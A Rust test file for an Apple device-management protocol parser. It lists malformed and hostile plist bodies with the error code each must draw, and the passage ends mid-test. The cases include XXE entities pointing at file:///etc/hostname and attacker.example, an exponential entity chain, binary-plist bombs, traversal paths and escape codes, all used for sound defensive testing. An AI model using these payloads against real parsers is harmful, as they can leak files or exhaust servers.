//! The bodies that must be refused, each with its name and the code of its refusal.
//!
//! Only what can be decided from the bytes stands here. What depends on state (another device's UDID, a command that was never
//! issued) is the engine's. One line a case, which is why the tables are kept from being wrapped.

use pomona_protocol::{Blame, GuardLimits, parse_check_in, parse_report};

/// Name, body, code.
type Case = (&'static str, Vec<u8>, &'static str);

const TOKEN_UPDATE: &str = include_str!("../testdata/token_update_old_iphone.plist");
const AUTHENTICATE: &str = include_str!("../testdata/authenticate_mac.plist");
const USER_UPDATE: &str = include_str!("../testdata/token_update_mac_user.plist");
const SHARED_UPDATE: &str = include_str!("../testdata/token_update_shared_ipad.plist");
const DEVICE_UPDATE: &str = include_str!("../testdata/token_update_device.plist");
const ACKNOWLEDGED: &str = include_str!("../testdata/report_acknowledged.plist");
const ERROR: &str = include_str!("../testdata/report_error.plist");
const OLD_UDID: &str = "2b6f0cc904d137be2e1730235f5664094b831186";
const DOCTYPE: &str = "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">";

/// The text with one replacement, which must hit.
fn edit(text: &str, from: &str, to: &str) -> Vec<u8> {
    assert!(text.contains(from), "nothing to replace: {from}");
    text.replacen(from, to, 1).into_bytes()
}

/// A good token update with something more in its dictionary.
fn with(inner: &str) -> Vec<u8> {
    edit(TOKEN_UPDATE, "</dict>", &format!("{inner}</dict>"))
}

/// A good report with something more in its dictionary.
fn report_with(inner: &str) -> Vec<u8> {
    edit(
        ACKNOWLEDGED,
        "<dict>\n\t<key>CommandUUID",
        &format!("<dict>{inner}<key>CommandUUID"),
    )
}

/// A dictionary in a property list.
fn dict(inner: &str) -> Vec<u8> {
    format!("<plist version=\"1.0\"><dict>{inner}</dict></plist>").into_bytes()
}

/// A check-in of that type with a UDID.
fn message(message_type: &str, inner: &str) -> Vec<u8> {
    dict(&format!(
        "<key>MessageType</key><string>{message_type}</string><key>UDID</key><string>A-1</string>{inner}"
    ))
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mark = if big_endian {
        [0xFE, 0xFF]
    } else {
        [0xFF, 0xFE]
    };
    let units = text.encode_utf16().flat_map(|unit| {
        if big_endian {
            unit.to_be_bytes()
        } else {
            unit.to_le_bytes()
        }
    });
    mark.into_iter().chain(units).collect()
}

fn nested(element: &str, depth: usize, key: &str) -> String {
    let open = format!("<{element}>{key}");
    format!(
        "{}{}",
        open.repeat(depth),
        format!("</{element}>").repeat(depth)
    )
}

fn many_keys(count: usize) -> String {
    (0..count)
        .map(|number| format!("<key>{number}</key><true/>"))
        .collect()
}

fn twice(text: &str) -> Vec<u8> {
    format!("{text}{text}").into_bytes()
}

fn udid(value: &str) -> Vec<u8> {
    edit(TOKEN_UPDATE, OLD_UDID, value)
}

fn prolog(doctype: &str) -> Vec<u8> {
    edit(TOKEN_UPDATE, DOCTYPE, doctype)
}

#[rustfmt::skip]
fn encoding_and_framing() -> Vec<Case> {
    let latin1 = |text: &str| -> Vec<u8> {
        text.replace("UTF-8", "ISO-8859-1")
            .replace("Ann’s", "\u{1}nn")
            .bytes()
            .map(|byte| if byte == 1 { 0xE4 } else { byte })
            .collect()
    };
    let broken: Vec<u8> = edit(AUTHENTICATE, "Ann’s", "\u{1}")
        .into_iter()
        .map(|byte| if byte == 1 { 0xC3 } else { byte })
        .collect();
    vec![
        ("empty body", Vec::new(), "xml.empty"),
        ("white space only", b" \r\n\t".to_vec(), "xml.empty"),
        ("byte-order mark only", b"\xEF\xBB\xBF".to_vec(), "xml.empty"),
        ("one zero byte", vec![0], "xml.control_character"),
        ("UTF-16 little-endian", utf16(TOKEN_UPDATE, false), "xml.encoding"),
        ("UTF-16 big-endian", utf16(TOKEN_UPDATE, true), "xml.encoding"),
        ("UTF-16 without a mark", utf16(TOKEN_UPDATE, false).split_off(2), "xml.encoding"),
        ("UTF-16 big-endian without a mark", utf16(TOKEN_UPDATE, true).split_off(2), "xml.encoding"),
        ("declared Latin-1 with high bytes", latin1(AUTHENTICATE), "xml.utf8"),
        ("declared Latin-1 without high bytes", edit(TOKEN_UPDATE, "UTF-8", "ISO-8859-1"), "xml.encoding"),
        ("declared UTF-16 in UTF-8 bytes", edit(TOKEN_UPDATE, "UTF-8", "UTF-16"), "xml.encoding"),
        ("declared UTF-7", edit(TOKEN_UPDATE, "UTF-8", "UTF-7"), "xml.encoding"),
        ("declared ASCII with high bytes", edit(AUTHENTICATE, "UTF-8", "US-ASCII"), "xml.encoding"),
        ("broken UTF-8 in DeviceName", broken, "xml.utf8"),
        ("overlong UTF-8", [&b"<plist><string>"[..], b"\xC0\xAF", b"</string></plist>"].concat(), "xml.utf8"),
        ("encoded surrogate", [&b"<plist><string>"[..], b"\xED\xA0\x80", b"</string></plist>"].concat(), "xml.utf8"),
        ("XML 1.1", edit(TOKEN_UPDATE, "version=\"1.0\" enc", "version=\"1.1\" enc"), "xml.declaration"),
        ("space before the declaration", format!(" {TOKEN_UPDATE}").into_bytes(), "xml.declaration"),
        ("two byte-order marks", format!("\u{feff}\u{feff}{TOKEN_UPDATE}").into_bytes(), "xml.not_xml"),
        ("two plists in a row", twice(TOKEN_UPDATE), "xml.declaration"),
        ("two plist elements in a row", twice("<plist><dict/></plist>"), "xml.trailing_content"),
        ("text after the end tag", format!("{TOKEN_UPDATE}x").into_bytes(), "xml.trailing_content"),
        ("zero byte after the end tag", format!("{TOKEN_UPDATE}\0").into_bytes(), "xml.control_character"),
        ("half a message", TOKEN_UPDATE.as_bytes()[..300].to_vec(), "xml.incomplete"),
        ("JSON", b"{\"MessageType\": \"TokenUpdate\"}".to_vec(), "xml.not_xml"),
        ("old text property list", b"{ MessageType = TokenUpdate; }".to_vec(), "xml.not_xml"),
        ("HTML", b"<html><body></body></html>".to_vec(), "xml.no_plist"),
        ("form fields", b"MessageType=TokenUpdate".to_vec(), "xml.not_xml"),
        ("gzip", b"\x1F\x8B\x08\x00\x00\x00\x00\x00".to_vec(), "xml.not_xml"),
        ("binary plist, valid", b"bplist00\xd0\x08\x00\x00\x00\x00\x00\x00\x01\x01\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x09".to_vec(), "xml.binary"),
        ("binary bomb of shared arrays", [&b"bplist00"[..], &[0xA2, 1, 1].repeat(40)].concat(), "xml.binary"),
        ("binary self-reference", b"bplist00\xA1\x00\x08".to_vec(), "xml.binary"),
        ("binary claiming 2^40 objects", b"bplist00\x00\x00\x00\x00\x00\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00".to_vec(), "xml.binary"),
    ]
}

#[rustfmt::skip]
fn xml_tricks() -> Vec<Case> {
    let chain: String = (1..10)
        .map(|level| {
            let before = format!("&e{};", level - 1).repeat(10);
            format!("<!ENTITY e{level} \"{before}\">")
        })
        .collect();
    let attributes = |attribute: &str, count: usize| -> Vec<u8> {
        let list: String = (0..count)
            .map(|number| format!(" {attribute}{number}=\"x\""))
            .collect();
        edit(TOKEN_UPDATE, "<dict>", &format!("<dict{list}>"))
    };
    let on_plist: String = (0..5).map(|number| format!(" a{number}=\"\"")).collect();
    vec![
        ("internal entity chain", prolog(&format!("<!DOCTYPE plist [<!ENTITY e0 \"ha\">{chain}]>")), "xml.doctype"),
        ("external entity to a file", prolog("<!DOCTYPE plist [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>"), "xml.doctype"),
        ("external entity to a URL", prolog("<!DOCTYPE plist [<!ENTITY x SYSTEM \"http://attacker.example/\">]>"), "xml.doctype"),
        ("parameter-entity DTD", prolog("<!DOCTYPE plist [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]>"), "xml.doctype"),
        ("Apple's document type with a subset", prolog(&DOCTYPE.replace('>', " [<!ENTITY x \"y\">]>")), "xml.doctype"),
        ("document type from elsewhere", prolog("<!DOCTYPE plist SYSTEM \"http://attacker.example/plist.dtd\">"), "xml.doctype"),
        ("document type of HTML", prolog("<!DOCTYPE html>"), "xml.doctype"),
        ("two document types", prolog(&DOCTYPE.repeat(2)), "xml.doctype"),
        ("document type inside plist", edit(TOKEN_UPDATE, "<dict>", &format!("{DOCTYPE}<dict>")), "xml.doctype"),
        ("undeclared entity", with("<key>A</key><string>&x;</string>"), "xml.entity"),
        ("HTML entity", with("<key>A</key><string>&nbsp;</string>"), "xml.entity"),
        ("entity in a key", with("<key>&x;</key><true/>"), "xml.entity"),
        ("reference to a surrogate", with("<key>A</key><string>&#xD83D;</string>"), "xml.entity"),
        ("reference beyond Unicode", with("<key>A</key><string>&#x7FFFFFFF;</string>"), "xml.entity"),
        ("lone ampersand", with("<key>A</key><string>R&D</string>"), "xml.malformed"),
        ("stylesheet instruction", edit(TOKEN_UPDATE, "<plist", "<?xml-stylesheet href=\"a.xsl\"?><plist"), "xml.processing_instruction"),
        ("instruction inside a string", with("<key>A</key><string>a<?php b?></string>"), "xml.processing_instruction"),
        ("second XML declaration", edit(TOKEN_UPDATE, "<dict>", "<?xml version=\"1.0\"?><dict>"), "xml.declaration"),
        ("CDATA in a string", with("<key>A</key><string><![CDATA[a]]></string>"), "xml.cdata"),
        ("CDATA between elements", with("<![CDATA[ ]]>"), "xml.cdata"),
        ("unclosed CDATA", with("<key>A</key><string><![CDATA[a"), "xml.incomplete"),
        ("unclosed comment", with("<!-- "), "xml.incomplete"),
        ("comment of 900 KB inside a string", with(&format!("<key>A</key><string><!--{}--></string>", "x".repeat(900_000))), "xml.comment"),
        ("comment inside a key", with("<key>UD<!-- -->ID</key><true/>"), "xml.comment"),
        ("80,000 attributes on one tag", attributes("a", 80_000), "xml.attribute"),
        ("100,000 namespace declarations", attributes("xmlns:n", 100_000), "xml.attribute"),
        ("five attributes on plist", edit(TOKEN_UPDATE, " version=\"1.0\">", &format!("{on_plist}>")), "xml.attribute"),
        ("attribute twice", edit(TOKEN_UPDATE, " version=\"1.0\">", " a=\"\" a=\"\">"), "xml.attribute"),
        ("attribute on a string", with("<key>A</key><string a=\"b\">c</string>"), "xml.attribute"),
        ("element with a prefix", with("<key>A</key><p:string>c</p:string>"), "xml.unknown_element"),
        ("element in upper case", with("<key>A</key><STRING>c</STRING>"), "xml.unknown_element"),
        ("unknown element", with("<key>A</key><set/>"), "xml.unknown_element"),
        ("crossed tags", with("<key>A</key><array><dict></array></dict>"), "xml.malformed"),
        ("end tag too many", with("</dict></dict>"), "xml.malformed"),
        ("no plist element", dict("").split_off(21).into_iter().take(13).collect(), "xml.no_plist"),
    ]
}

#[rustfmt::skip]
fn structure() -> Vec<Case> {
    vec![
        ("root array", b"<plist><array/></plist>".to_vec(), "plist.root"),
        ("root string", b"<plist><string>TokenUpdate</string></plist>".to_vec(), "plist.root"),
        ("plist without a value", b"<plist version=\"1.0\"></plist>".to_vec(), "xml.no_root"),
        ("two roots", b"<plist><dict/><dict/></plist>".to_vec(), "xml.two_roots"),
        ("plist inside plist", b"<plist><plist><dict/></plist></plist>".to_vec(), "xml.misplaced_element"),
        ("UDID twice", with("<key>UDID</key><string>B</string>"), "xml.duplicate_key"),
        ("UDID twice, once written with a reference", with("<key>&#85;DID</key><string>B</string>"), "xml.duplicate_key"),
        ("MessageType twice with different values", with("<key>MessageType</key><string>CheckOut</string>"), "xml.duplicate_key"),
        ("same key twice in an unknown dictionary", with("<key>A</key><dict><key>a</key><true/><key>a</key><true/></dict>"), "xml.duplicate_key"),
        ("key without value", with("<key>A</key>"), "xml.key_without_value"),
        ("two keys in a row", with("<key>A</key><key>B</key><true/>"), "xml.key_without_value"),
        ("value without key", with("<true/>"), "xml.value_without_key"),
        ("key in an array", with("<key>A</key><array><key>a</key></array>"), "xml.misplaced_element"),
        ("key as root", b"<plist><key>a</key></plist>".to_vec(), "xml.misplaced_element"),
        ("element inside a string", with("<key>A</key><string><true/></string>"), "xml.misplaced_element"),
        ("element inside true", with("<key>A</key><true><string/></true>"), "xml.misplaced_element"),
        ("text inside true", with("<key>A</key><true>no</true>"), "xml.boolean"),
        ("text between elements", with("stray"), "xml.stray_text"),
        ("65 nested arrays", with(&format!("<key>A</key>{}", nested("array", 64, ""))), "xml.too_deep"),
        ("10,000 nested arrays under an unknown key", with(&format!("<key>A</key>{}", nested("array", 10_000, ""))), "xml.too_deep"),
        ("40,000 nested dicts", with(&format!("<key>A</key>{}", nested("dict", 40_000, "<key>a</key>"))), "xml.too_deep"),
        ("200,000 nested dicts", dict(&format!("<key>A</key>{}", nested("dict", 200_000, "<key>a</key>"))), "xml.too_deep"),
        ("a dict of 150,000 keys", dict(&many_keys(150_000)), "xml.too_many_elements"),
        ("a dict of a million keys", dict(&many_keys(1_000_000)), "body.too_large"),
        ("key of 5 KiB", with(&format!("<key>{}</key><true/>", "k".repeat(5 << 10))), "xml.key_too_long"),
        ("string of 300 KiB", with(&format!("<key>A</key><string>{}</string>", "s".repeat(300 << 10))), "xml.value_too_long"),
        ("integer 2^64", with("<key>A</key><integer>18446744073709551616</integer>"), "xml.integer"),
        ("integer below -2^63", with("<key>A</key><integer>-9223372036854775809</integer>"), "xml.integer"),
        ("hexadecimal integer", with("<key>A</key><integer>0xFF</integer>"), "xml.integer"),
        ("integer of 100,000 digits", with(&format!("<key>A</key><integer>{}</integer>", "9".repeat(100_000))), "xml.integer"),
        ("empty integer", with("<key>A</key><integer/>"), "xml.integer"),
        ("NaN real", with("<key>A</key><real>NaN</real>"), "xml.real"),
        ("infinite real", with("<key>A</key><real>-inf</real>"), "xml.real"),
        ("real beyond its range", with("<key>A</key><real>1e400</real>"), "xml.real"),
        ("date with month 13", with("<key>A</key><date>2026-13-01T00:00:00Z</date>"), "xml.date"),
        ("30 February", with("<key>A</key><date>2026-02-30T00:00:00Z</date>"), "xml.date"),
        ("date with an offset beyond the last year", with("<key>A</key><date>9999-12-31T23:59:59-01:00</date>"), "xml.date"),
        ("data that is not base64", with("<key>A</key><data>not base64!</data>"), "xml.data"),
        ("data without padding", with("<key>A</key><data>AAA</data>"), "xml.data"),
        ("data with padding in the middle", with("<key>A</key><data>AA==AAAA</data>"), "xml.data"),
        ("URL-safe base64", with("<key>A</key><data>__--</data>"), "xml.data"),
        ("escape code in DeviceName", edit(AUTHENTICATE, "Ann’s", "\u{1b}[31m"), "xml.control_character"),
        ("reference to NUL", with("<key>A</key><string>&#0;</string>"), "xml.control_character"),
    ]
}

#[rustfmt::skip]
fn identifiers() -> Vec<Case> {
    let key = format!("<key>UDID</key>\n\t<string>{OLD_UDID}</string>");
    vec![
        ("UDID empty", udid(""), "field.empty"),
        ("UDID of 10 KiB", udid(&"A".repeat(10 << 10)), "field.too_long"),
        ("UDID of 129 bytes", udid(&"A".repeat(129)), "field.too_long"),
        ("UDID containing a colon", udid("A:B"), "field.character"),
        ("UDID containing a slash", udid("../A"), "field.character"),
        ("UDID with NUL", udid("A\0"), "xml.control_character"),
        ("UDID with newline", udid("A\nB"), "field.character"),
        ("UDID with escape codes", udid("\u{1b}[2J"), "xml.control_character"),
        ("UDID with a letter that only looks like A", udid("\u{410}-1"), "field.character"),
        ("UDID with a space behind", udid("A-1 "), "field.character"),
        ("UDID an integer", edit(TOKEN_UPDATE, &key, "<key>UDID</key><integer>1</integer>"), "field.type"),
        ("both UDID and EnrollmentID", with("<key>EnrollmentID</key><string>E</string>"), "ids.mixed"),
        ("neither UDID nor EnrollmentID", edit(TOKEN_UPDATE, &key, ""), "ids.none"),
        ("UserID alone", edit(TOKEN_UPDATE, &key, "<key>UserID</key><string>U</string>"), "ids.none"),
        ("UDID with EnrollmentUserID", with("<key>EnrollmentUserID</key><string>E</string>"), "ids.mixed"),
        ("EnrollmentID with UserID", edit(USER_UPDATE, "UDID", "EnrollmentID"), "ids.mixed"),
        ("EnrollmentID empty", edit(TOKEN_UPDATE, &key, "<key>EnrollmentID</key><string/>"), "field.empty"),
        ("EnrollmentID with a colon", edit(TOKEN_UPDATE, &key, "<key>EnrollmentID</key><string>a:b</string>"), "field.character"),
        ("UserID empty", edit(USER_UPDATE, "5A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D", ""), "field.empty"),
        ("UserID with newline", edit(USER_UPDATE, "5A1B2C3D-4E5F", "5A1B2C3D\n4E5F"), "field.character"),
        ("all-F UserID without short name", edit(SHARED_UPDATE, "<key>UserShortName</key>", "<key>Other</key>"), "field.missing"),
        ("all-f UserID without short name", edit(&SHARED_UPDATE.replace("FFFF", "ffff"), "<key>UserShortName</key>", "<key>Other</key>"), "field.missing"),
        ("all-F UserID with an empty short name", edit(SHARED_UPDATE, "bo@school.example", ""), "field.missing"),
        ("short name with a line break", edit(SHARED_UPDATE, "bo@", "bo\n@"), "field.character"),
        ("short name of 257 bytes", edit(SHARED_UPDATE, "bo@school.example", &"b".repeat(257)), "field.too_long"),
    ]
}

#[rustfmt::skip]
fn messages() -> Vec<Case> {
    let token = "<key>Token</key>";
    let magic = "0E1D2C3B-4A59-4687-8695-A4B3C2D1E0F1";
    let topic = "<key>Topic</key><string>com.apple.mgmt.x</string>";
    let type_key = "<key>MessageType</key>\n\t<string>TokenUpdate</string>";
    let status = |data: &str| {
        message(
            "DeclarativeManagement",
            &format!("<key>Endpoint</key><string>status</string>{data}"),
        )
    };
    let endpoint = |endpoint: &str| {
        message(
            "DeclarativeManagement",
            &format!("<key>Endpoint</key><string>{endpoint}</string>"),
        )
    };
    let data = |bytes: usize| format!("<data>{}</data>", "AAAA".repeat(bytes / 3));
    let on_user = |message_type: &str| {
        message(
            message_type,
            &format!("<key>UserID</key><string>U-1</string>{topic}"),
        )
    };
    vec![
        ("empty dict", dict(""), "field.missing"),
        ("no MessageType", edit(TOKEN_UPDATE, type_key, ""), "field.missing"),
        ("MessageType an integer", edit(TOKEN_UPDATE, type_key, "<key>MessageType</key><integer>1</integer>"), "field.type"),
        ("MessageType an array", edit(TOKEN_UPDATE, type_key, "<key>MessageType</key><array/>"), "field.type"),
        ("unknown MessageType", message("Authorize", topic), "field.unknown_value"),
        ("MessageType in lower case", message("tokenupdate", topic), "field.unknown_value"),
        ("MessageType with a space behind", message("TokenUpdate ", topic), "field.unknown_value"),
        ("MessageType empty", message("", topic), "field.unknown_value"),
        ("MessageType of 10 KiB", message(&"A".repeat(10 << 10), topic), "field.too_long"),
        ("Token of 0 bytes", edit(&TOKEN_UPDATE.replace('\n', ""), "<data>\t", "<data></data><key>B</key><data>"), "field.empty"),
        ("Token missing", edit(TOKEN_UPDATE, token, "<key>Other</key>"), "field.missing"),
        ("Token a string", message("TokenUpdate", &format!("{topic}{token}<string>AA</string>")), "field.type"),
        ("Token of 2 KiB", message("TokenUpdate", &format!("{topic}{token}{}", data(2049))), "field.too_long"),
        ("PushMagic missing", edit(TOKEN_UPDATE, "<key>PushMagic</key>", "<key>Other</key>"), "field.missing"),
        ("PushMagic empty", edit(TOKEN_UPDATE, magic, ""), "field.empty"),
        ("PushMagic of 257 bytes", edit(TOKEN_UPDATE, magic, &"m".repeat(257)), "field.too_long"),
        ("Topic missing", edit(TOKEN_UPDATE, "<key>Topic</key>", "<key>Other</key>"), "field.missing"),
        ("Topic missing in Authenticate", edit(AUTHENTICATE, "<key>Topic</key>", "<key>Other</key>"), "field.missing"),
        ("Topic missing in CheckOut", message("CheckOut", ""), "field.missing"),
        ("AwaitingConfiguration a string", edit(DEVICE_UPDATE, "<true/>", "<string>yes</string>"), "field.type"),
        ("AwaitingConfiguration 2", edit(DEVICE_UPDATE, "<true/>", "<integer>2</integer>"), "field.type"),
        ("UnlockToken a string", with("<key>UnlockToken</key><string>AA</string>"), "field.type"),
        ("SerialNumber an integer", edit(AUTHENTICATE, "<string>XQ4TR7L2MN</string>", "<integer>1</integer>"), "field.type"),
        ("SerialNumber of 1 KiB", edit(AUTHENTICATE, "XQ4TR7L2MN", &"S".repeat(1 << 10)), "field.too_long"),
        ("DeviceName with a delete character", edit(AUTHENTICATE, "Ann’s", "\u{7f}"), "field.character"),
        ("BootstrapToken a string", message("SetBootstrapToken", "<key>BootstrapToken</key><string>x</string>"), "field.type"),
        ("SetBootstrapToken of 10 MiB", message("SetBootstrapToken", &format!("<key>BootstrapToken</key>{}", data(10 << 20))), "body.too_large"),
        ("SetBootstrapToken of 2 MiB", message("SetBootstrapToken", &format!("<key>BootstrapToken</key>{}", data(2 << 20))), "body.too_large"),
        ("unknown TokenServiceType", message("GetToken", "<key>TokenServiceType</key><string>com.example</string>"), "field.unknown_value"),
        ("TokenServiceType missing", message("GetToken", ""), "field.missing"),
        ("TokenParameters an array", message("GetToken", "<key>TokenServiceType</key><string>com.apple.maid</string><key>TokenParameters</key><array/>"), "field.type"),
        ("Endpoint missing", message("DeclarativeManagement", ""), "field.missing"),
        ("Endpoint empty", endpoint(""), "field.empty"),
        ("unknown Endpoint", endpoint("items"), "field.unknown_value"),
        ("Endpoint with dot segments", endpoint("declaration/../status"), "field.unknown_value"),
        ("declaration that is a dot segment", endpoint("declaration/asset/.."), "field.character"),
        ("declaration with an encoded NUL", endpoint("declaration/asset/a%00"), "field.character"),
        ("declaration with an empty identifier", endpoint("declaration/asset/"), "field.empty"),
        ("declaration with an identifier of 10 KiB", endpoint(&format!("declaration/asset/{}", "a".repeat(10 << 10))), "field.too_long"),
        ("Data with tokens", message("DeclarativeManagement", "<key>Endpoint</key><string>tokens</string><key>Data</key><data>AAAA</data>"), "field.unexpected"),
        ("status without Data", status(""), "field.missing"),
        ("status with empty Data", status("<key>Data</key><data/>"), "field.missing"),
        ("status with Data as a string", status("<key>Data</key><string>{}</string>"), "field.type"),
        ("status report of 4.2 MiB", status(&format!("<key>Data</key>{}", data(4_400_000))), "body.too_large"),
        ("status of 7 MiB", status(&format!("<key>Data</key>{}", data(7 << 20))), "body.too_large"),
        ("Authenticate on the user channel", on_user("Authenticate"), "channel.wrong"),
        ("CheckOut on the user channel", on_user("CheckOut"), "channel.wrong"),
        ("GetBootstrapToken on the user channel", on_user("GetBootstrapToken"), "channel.wrong"),
        ("SetBootstrapToken on the user channel", on_user("SetBootstrapToken"), "channel.wrong"),
        ("ReturnToService on the user channel", on_user("ReturnToService"), "channel.wrong"),
        ("UserAuthenticate on the device channel", message("UserAuthenticate", ""), "channel.wrong"),
        ("UserAuthenticate on a Shared iPad", edit(SHARED_UPDATE, "TokenUpdate", "UserAuthenticate"), "channel.wrong"),
        ("UnlockToken on the user channel", edit(USER_UPDATE, "<key>NotOn", "<key>UnlockToken</key><data>AAAA</data><key>NotOn"), "channel.wrong"),
    ]
}

#[rustfmt::skip]
fn reports() -> Vec<Case> {
    let status = "<key>Status</key>\n\t<string>Acknowledged</string>";
    let uuid = "0197a3b4-5c6d-7e8f-9a0b-1c2d3e4f5061";
    let apps: String =
        "<dict><key>Name</key><string>a</string><key>Identifier</key><string>b</string></dict>"
            .repeat(60_000);
    let million: String = "<dict><key>Name</key><string>a</string></dict>".repeat(1_000_000);
    let chain = |entries: usize, entry: &str| {
        report_with(&format!(
            "<key>ErrorChain</key><array>{}</array>",
            entry.repeat(entries)
        ))
    };
    let full = "<dict><key>ErrorCode</key><integer>1</integer><key>ErrorDomain</key><string>D</string></dict>";
    vec![
        ("empty report", Vec::new(), "xml.empty"),
        ("no Status", edit(ACKNOWLEDGED, status, ""), "field.missing"),
        ("Status an integer", edit(ACKNOWLEDGED, status, "<key>Status</key><integer>1</integer>"), "field.type"),
        ("Status acknowledged in lower case", edit(ACKNOWLEDGED, ">Acknowledged", ">acknowledged"), "field.unknown_value"),
        ("Status Done", edit(ACKNOWLEDGED, ">Acknowledged", ">Done"), "field.unknown_value"),
        ("Status twice", report_with("<key>Status</key><string>Idle</string>"), "xml.duplicate_key"),
        ("Acknowledged without CommandUUID", edit(ACKNOWLEDGED, "<key>CommandUUID</key>", "<key>Other</key>"), "field.missing"),
        ("NotNow without CommandUUID", dict("<key>Status</key><string>NotNow</string><key>UDID</key><string>A</string>"), "field.missing"),
        ("empty CommandUUID", edit(ACKNOWLEDGED, uuid, ""), "field.empty"),
        ("CommandUUID an integer", edit(ACKNOWLEDGED, &format!("<string>{uuid}</string>"), "<integer>1</integer>"), "field.type"),
        ("CommandUUID of 129 bytes", edit(ACKNOWLEDGED, uuid, &"u".repeat(129)), "field.too_long"),
        ("CommandUUID with newline", edit(ACKNOWLEDGED, uuid, "a\nb"), "field.character"),
        ("CommandUUID with escape codes", edit(ACKNOWLEDGED, uuid, "\u{1b}[2J"), "field.character"),
        ("UDID with escape codes in a report", edit(ACKNOWLEDGED, "00008027-", "\u{1b}"), "field.character"),
        ("report with neither UDID nor EnrollmentID", edit(ACKNOWLEDGED, "<key>UDID</key>", "<key>Other</key>"), "ids.none"),
        ("report with both UDID and EnrollmentID", report_with("<key>EnrollmentID</key><string>E</string>"), "ids.mixed"),
        ("ErrorChain a dict", report_with("<key>ErrorChain</key><dict/>"), "field.type"),
        ("ErrorChain of strings", chain(2, "<string>failed</string>"), "field.type"),
        ("chain of 10,001 entries", chain(10_001, "<dict/>"), "field.too_many"),
        ("chain of 100,000 entries", chain(100_000, full), "xml.too_many_elements"),
        ("QueryResponses an array", report_with("<key>QueryResponses</key><array/>").into_iter().collect(), "xml.duplicate_key"),
        ("QueryResponses an array alone", edit(ERROR, "<key>ErrorChain</key>", "<key>QueryResponses</key>"), "field.type"),
        ("RequestType an integer", report_with("<key>RequestType</key><integer>1</integer>"), "field.type"),
        ("NotOnConsole a string", report_with("<key>NotOnConsole</key><string>no</string>"), "field.type"),
        ("17 MiB body", report_with(&format!("<key>A</key><data>{}</data>", "AAAA".repeat(17 << 18))), "body.too_large"),
        ("60,000 applications", report_with(&format!("<key>InstalledApplicationList</key><array>{apps}</array>")), "xml.too_many_elements"),
        ("a million applications", report_with(&format!("<key>InstalledApplicationList</key><array>{million}</array>")), "body.too_large"),
        ("1 MiB description", edit(ERROR, "The app", &"x".repeat(1 << 20)), "xml.value_too_long"),
        ("bundle id of 1 MiB", report_with(&format!("<key>A</key><string>{}</string>", "b".repeat(1 << 20))), "xml.value_too_long"),
        ("report nested 10,000 deep", report_with(&format!("<key>A</key>{}", nested("array", 10_000, ""))), "xml.too_deep"),
        ("binary report", b"bplist00".to_vec(), "xml.binary"),
        ("report with NUL", edit(ERROR, "The app", "\0"), "xml.control_character"),
        ("report cut in half", ERROR.as_bytes()[..500].to_vec(), "xml.incomplete"),
    ]
}

#[test]
fn every_bad_check_in_is_refused_by_its_own_rule() {
    let groups = [
        encoding_and_framing(),
        xml_tricks(),
        structure(),
        identifiers(),
        messages(),
    ];
    let cases: Vec<Case> = groups.into_iter().flatten().collect();
    assert!(cases.len() >= 150, "only {} cases", cases.len());
    for (name, body, expected) in &cases {
        let error = parse_check_in(body, &GuardLimits::default()).expect_err(name);
        assert_eq!(error.code(), *expected, "{name}");
        let blame = match *expected {
            "body.too_large" => Blame::TooLarge,
            "channel.wrong" => Blame::NotAllowed,
            _ => Blame::Malformed,
        };
        assert_eq!(error.blame(), blame, "{name}");
    }
}

#[test]
fn every_bad_report_is_refused_by_its_own_rule() {
    for (name, body, expected) in reports() {
        let error = parse_report(&body, &GuardLimits::default()).expect_err(name);
        assert_eq!(error.code(), expected, "{name}");
    }
}

#[test]
fn what_only_looks_bad_is_taken() {
    let check_ins = [
        (
            "byte-order mark then a good plist",
            format!("\u{feff}{TOKEN_UPDATE}").into_bytes(),
        ),
        (
            "short name ../x",
            edit(SHARED_UPDATE, "bo@school.example", "../x"),
        ),
        ("no document type", edit(TOKEN_UPDATE, DOCTYPE, "")),
        (
            "no XML declaration",
            dict(
                "<key>MessageType</key><string>CheckOut</string><key>UDID</key><string>A</string><key>Topic</key><string>t</string>",
            ),
        ),
        (
            "unknown extra keys",
            with("<key>New</key><array><dict/></array>"),
        ),
        (
            "64 levels",
            with(&format!("<key>A</key>{}", nested("array", 63, ""))),
        ),
        (
            "empty BootstrapToken",
            message(
                "SetBootstrapToken",
                "<key>BootstrapToken</key><data></data>",
            ),
        ),
        (
            "boolean sent as integer",
            edit(DEVICE_UPDATE, "<true/>", "<integer>1</integer>"),
        ),
    ];
    for (name, body) in check_ins {
        assert_eq!(
            parse_check_in(&body, &GuardLimits::default()).err(),
            None,
            "{name}"
        );
    }
    let reports = [
        (
            "Idle with a stray CommandUUID",
            edit(ACKNOWLEDGED, ">Acknowledged", ">Idle"),
        ),
        (
            "Error without a chain",
            edit(ACKNOWLEDGED, ">Acknowledged", ">Error"),
        ),
        (
            "Acknowledged with a chain",
            edit(ERROR, ">Error", ">Acknowledged"),
        ),
        (
            "unknown extra keys",
            report_with("<key>New</key><real>0.5</real>"),
        ),
        (
            "integer sent as string in inventory",
            edit(ACKNOWLEDGED, "<real>211.5</real>", "<string>211</string>"),
        ),
        (
            "date in year 9999",
            report_with("<key>A</key><date>9999-12-31T23:59:59Z</date>"),
        ),
        (
            "date before 1970",
            report_with("<key>A</key><date>1901-01-01T00:00:00Z</date>"),
        ),
        (
            "negative sizes",
            report_with("<key>A</key><integer>-1</integer>"),
        ),
        ("script text in an error string", ERROR.as_bytes().to_vec()),
        (
            "escape codes in an error string",
            edit(ERROR, "The app", "\u{1b}[31mThe app"),
        ),
        (
            "certificate list with garbage",
            report_with("<key>CertificateList</key><array><data>3q2+7w==</data></array>"),
        ),
    ];
    for (name, body) in reports {
        assert_eq!(
            parse_report(&body, &GuardLimits::default()).err(),
            None,
            "{name}"
        );
    }
}

#[test]
fn no_refusal_repeats_what_was_sent() {
    let secret = "hunter2hunter2";
    let bodies = [
        udid(&format!("{secret}:")),
        with(&format!("<key>{secret}</key>")),
        with(&format!("<{secret}/>")),
        with(&format!("<key>A</key><integer>{secret}</integer>")),
        with(&format!("<key>A</key><string>&{secret};</string>")),
        message(secret, ""),
    ];
    for body in bodies {
